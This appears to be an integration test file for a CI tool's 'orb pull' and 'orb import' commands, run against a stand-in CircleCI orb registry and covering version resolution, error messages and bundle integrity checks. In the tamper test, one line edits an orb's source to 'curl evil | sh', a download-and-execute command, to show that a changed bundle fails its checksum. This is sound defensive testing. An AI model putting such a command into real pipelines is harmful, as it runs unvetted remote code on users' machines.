import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { run, type CliIo } from '../../runtime/cli/main';
import { parseOrbBundle, serializeOrbBundle, type OrbBundle } from '../../runtime/config/orb-bundle';
import { ORB_SOURCE_QUERY } from '../../runtime/config/orb-pull';
import { startTestGyre, type TestGyre } from '../support/gyre';
import { startOrbRegistryStandIn, type OrbRegistryStandIn } from './orb-registry-stand-in';

/**
 * `gyre orb pull` against a stand-in of CircleCI's orb registry GraphQL API, and the bundle it
 * writes carried into a Gyre (`gyre orb import <bundle>`), starting from the error a config that
 * names missing orbs gets.
 */

const NODE_5_2_0 = `version: 2.1
description: node (stand-in)
orbs:
  jq: circleci/jq@2.2
  helpers:
    orbs:
      bash: circleci/bash@1
    commands:
      hi: {steps: [{run: echo hi}]}
executors:
  default: {docker: [{image: cimg/node:20.0}]}
commands:
  install:
    steps: [jq/install, {run: npm ci}]
jobs:
  test:
    executor: default
    steps: [checkout, install, {run: npm test}]
`;
const simpleOrb = (label: string) => `version: 2.1
commands:
  ${label === 'slack' ? 'notify' : 'install'}: {steps: [{run: echo ${label}}]}
`;

const CONFIG = `version: 2.1
orbs:
  node: circleci/node@5
  slack: circleci/slack@4.12
jobs:
  notify:
    docker: [{image: cimg/base:2024.01}]
    steps: [slack/notify]
workflows:
  main:
    jobs: [node/test, notify]
`;

/** A port nothing listens on (it was free a moment ago). */
async function closedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const { port } = server.address() as AddressInfo;
  await new Promise<void>((r) => server.close(() => r()));
  return port;
}

function capture(env: Record<string, string | undefined>) {
  let stdout = '';
  let stderr = '';
  const io: CliIo = { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env };
  return { io, out: () => stdout, err: () => stderr };
}

describe('gyre orb pull, against a stand-in of the orb registry GraphQL API', () => {
  let registry: OrbRegistryStandIn;
  let g: TestGyre;
  const dir = mkdtempSync(join(tmpdir(), 'gyre-orb-pull-'));

  beforeAll(async () => {
    registry = await startOrbRegistryStandIn();
    registry.publish('circleci/node', '5.0.0', simpleOrb('node-old'));
    registry.publish('circleci/node', '5.2.0', NODE_5_2_0);
    registry.publish('circleci/node', '6.0.0', simpleOrb('node-6'));
    registry.publish('circleci/jq', '2.2.0', simpleOrb('jq-old'));
    registry.publish('circleci/jq', '2.2.1', simpleOrb('jq'));
    registry.publish('circleci/bash', '1.0.3', simpleOrb('bash'));
    registry.publish('circleci/slack', '4.12.5', simpleOrb('slack'));
    g = await startTestGyre();
  });
  afterAll(async () => {
    await g.stop();
    await registry.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const compile = () => g.api('POST', '/api/v2/compile-config-with-defaults', { config_yaml: CONFIG, options: { pipeline_values: { 'pipeline.git.branch': 'main' } } });

  it('a config naming missing orbs gets one error listing them all and the command that fetches them; that command and an import make it compile', async () => {
    const before = await compile();
    expect(before.valid).toBe(false);
    const summary = before.errors.map((e: { message: string }) => e.message).find((m: string) => /missing from Gyre's orb registry/.test(m));
    expect(summary).toContain('2 orbs are missing from Gyre\'s orb registry: circleci/node@5, circleci/slack@4.12.');
    const pullCommand = /`(gyre orb pull [^`]+)`/.exec(summary)![1];
    expect(pullCommand).toBe('gyre orb pull circleci/node@5 circleci/slack@4.12 --out orbs.bundle');
    expect(summary).toContain('then on this install `gyre orb import orbs.bundle`');
    // The orbs' own elements are not reported again one by one.
    expect(before.errors.map((e: { message: string }) => e.message).join('\n')).not.toMatch(/no orb '(node|slack)' is imported|has no executor/);

    const bundleFile = join(dir, 'orbs.bundle');
    const args = pullCommand.split(' ').slice(1).map((a) => (a === 'orbs.bundle' ? bundleFile : a));
    const pull = capture({ CIRCLECI_CLI_HOST: registry.host });
    expect(await run(args, pull.io)).toBe(0);
    expect(pull.out()).toMatch(/^Wrote 4 orbs to .*orbs\.bundle \(sha256:[0-9a-f]{64}\):\n/);
    expect(pull.out()).toContain(`Carry it to the Gyre install and run: gyre orb import ${bundleFile}`);
    expect(pull.err()).toContain('circleci/node@5 → 5.2.0');
    expect(pull.err()).toContain('circleci/jq@2.2 → 2.2.1 (imported by circleci/node@5.2.0)');

    const bundle = JSON.parse(readFileSync(bundleFile, 'utf8')) as OrbBundle;
    expect(bundle).toMatchObject({ kind: 'gyre-orb-bundle', format: 1, registry: `${registry.host}/graphql-unstable`, requested: ['circleci/node@5', 'circleci/slack@4.12'] });
    expect(bundle.orbs.map((o) => `${o.name}@${o.version}`)).toEqual(['circleci/node@5.2.0', 'circleci/slack@4.12.5', 'circleci/jq@2.2.1', 'circleci/bash@1.0.3']);
    expect(bundle.orbs[0]).toMatchObject({ refs: ['circleci/node@5'], imported_by: [], source: NODE_5_2_0, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(bundle.orbs[3]).toMatchObject({ refs: ['circleci/bash@1'], imported_by: ['circleci/node@5.2.0'] });
    expect(() => parseOrbBundle(readFileSync(bundleFile, 'utf8'), bundleFile)).not.toThrow();

    // Only the circleci CLI's query was sent, as it sends it, with no token for public orbs.
    expect(registry.requests.length).toBe(4);
    expect(registry.requests.every((r) => r.known && r.query === ORB_SOURCE_QUERY && !r.headers.authorization)).toBe(true);
    expect(registry.requests.map((r) => r.variables.orbVersionRef)).toEqual(['circleci/node@5', 'circleci/slack@4.12', 'circleci/jq@2.2', 'circleci/bash@1']);
    expect(registry.requests[0].headers['content-type']).toBe('application/json; charset=utf-8');

    const env = { GYRE_URL: g.url, GYRE_TOKEN: g.token };
    const imported = capture(env);
    expect(await run(['orb', 'import', bundleFile], imported.io)).toBe(0);
    expect(imported.out()).toContain('Imported circleci/node@5.2.0.');
    expect(imported.out()).toContain(`${bundleFile}: 4 imported, 0 already present (4 in the bundle).`);
    const after = await compile();
    expect(after.errors).toEqual([]);
    expect(after.valid).toBe(true);
    expect(after['output-yaml']).toContain('echo jq'); // node's install command, through the orb it imports

    const again = capture(env);
    expect(await run(['orb', 'import', bundleFile], again.io)).toBe(0);
    expect(again.out()).toContain(`${bundleFile}: 0 imported, 4 already present (4 in the bundle).`);
  }, 60_000);

  it('sends a token for private orbs as the circleci CLI does, and resolves volatile and references without a version to the newest', async () => {
    registry.requests.length = 0;
    const out = join(dir, 'volatile.bundle');
    const pull = capture({ CIRCLECI_CLI_HOST: registry.host, CIRCLECI_CLI_TOKEN: 'cci-secret' });
    expect(await run(['orb', 'pull', 'circleci/jq@volatile', 'circleci/bash', '--out', out], pull.io)).toBe(0);
    const bundle = parseOrbBundle(readFileSync(out, 'utf8'), out);
    expect(bundle.orbs.map((o) => `${o.name}@${o.version}`)).toEqual(['circleci/jq@2.2.1', 'circleci/bash@1.0.3']);
    expect(registry.requests.map((r) => r.headers.authorization)).toEqual(['cci-secret', 'cci-secret']);
    expect(registry.requests.map((r) => r.variables.orbVersionRef)).toEqual(['circleci/jq@volatile', 'circleci/bash@volatile']);
  });

  it('names a missing orb, and who imports it, and writes no bundle', async () => {
    registry.publish('acme/tools', '1.0.0', 'version: 2.1\norbs: {gone: acme/gone@3}\ncommands: {t: {steps: [{run: echo}]}}\n');
    const out = join(dir, 'missing.bundle');
    const direct = capture({ CIRCLECI_CLI_HOST: registry.host });
    expect(await run(['orb', 'pull', 'circleci/nope@1.0.0', '--out', out], direct.io)).toBe(1);
    expect(direct.err()).toContain(`circleci/nope@1.0.0 is not in the orb registry at ${registry.host}/graphql-unstable`);
    const nested = capture({ CIRCLECI_CLI_HOST: registry.host });
    expect(await run(['orb', 'pull', 'acme/tools@1', '--out', out], nested.io)).toBe(1);
    expect(nested.err()).toContain('acme/gone@3 (imported by acme/tools@1.0.0) is not in the orb registry');
    expect(existsSync(out)).toBe(false);
  });

  it('says so when the registry cannot be reached, and refuses a malformed reference before asking', async () => {
    const closed = await closedPort();
    const unreachable = capture({ CIRCLECI_CLI_HOST: `http://127.0.0.1:${closed}` });
    expect(await run(['orb', 'pull', 'circleci/node@5', '--out', join(dir, 'x.bundle')], unreachable.io)).toBe(1);
    expect(unreachable.err()).toContain(`cannot reach the orb registry at http://127.0.0.1:${closed}/graphql-unstable (ECONNREFUSED); run gyre orb pull on a machine with internet access`);
    const bad = capture({ CIRCLECI_CLI_HOST: registry.host });
    expect(await run(['orb', 'pull', 'node@5', '--out', join(dir, 'x.bundle')], bad.io)).toBe(1);
    expect(bad.err()).toContain("'node@5' is not an orb reference: use namespace/orb@version");
  });

  it('a bundle changed after it was written is refused whole, naming the orb, and nothing is imported', async () => {
    const out = join(dir, 'tamper.bundle');
    expect(await run(['orb', 'pull', 'circleci/slack@4', 'circleci/bash@1.0.3', '--out', out], capture({ CIRCLECI_CLI_HOST: registry.host }).io)).toBe(0);
    const good = parseOrbBundle(readFileSync(out, 'utf8'), out);

    const edited = { ...good, orbs: [good.orbs[0], { ...good.orbs[1], source: good.orbs[1].source.replace('echo bash', 'curl evil | sh') }] };
    writeFileSync(join(dir, 'edited.bundle'), serializeOrbBundle(edited));
    const dropped = { ...good, orbs: [good.orbs[1]] };
    writeFileSync(join(dir, 'dropped.bundle'), serializeOrbBundle(dropped));
    writeFileSync(join(dir, 'future.bundle'), serializeOrbBundle({ ...good, format: 2 as 1 }));

    const before = (await g.api('GET', '/api/v2/orbs')).items.length;
    const env = { GYRE_URL: g.url, GYRE_TOKEN: g.token };
    const a = capture(env);
    expect(await run(['orb', 'import', join(dir, 'edited.bundle')], a.io)).toBe(1);
    expect(a.err()).toContain('circleci/bash@1.0.3 does not match its sha256 (the file was changed or damaged after gyre orb pull wrote it); pull it again');
    const b = capture(env);
    expect(await run(['orb', 'import', join(dir, 'dropped.bundle')], b.io)).toBe(1);
    expect(b.err()).toContain('the bundle checksum does not match its orbs');
    const c = capture(env);
    expect(await run(['orb', 'import', join(dir, 'future.bundle')], c.io)).toBe(1);
    expect(c.err()).toContain('bundle format 2 is not one this Gyre reads (it reads format 1)');
    expect((await g.api('GET', '/api/v2/orbs')).items.length).toBe(before);
  });

  it('a bad token is refused by the server and stops the import', async () => {
    const out = join(dir, 'token.bundle');
    expect(await run(['orb', 'pull', 'circleci/bash@1', '--out', out], capture({ CIRCLECI_CLI_HOST: registry.host }).io)).toBe(0);
    const r = capture({ GYRE_URL: g.url, GYRE_TOKEN: 'not-a-token' });
    expect(await run(['orb', 'import', out], r.io)).toBe(1);
    expect(r.err()).toMatch(/POST \/api\/v2\/orbs failed \(401\)/);
  });
});
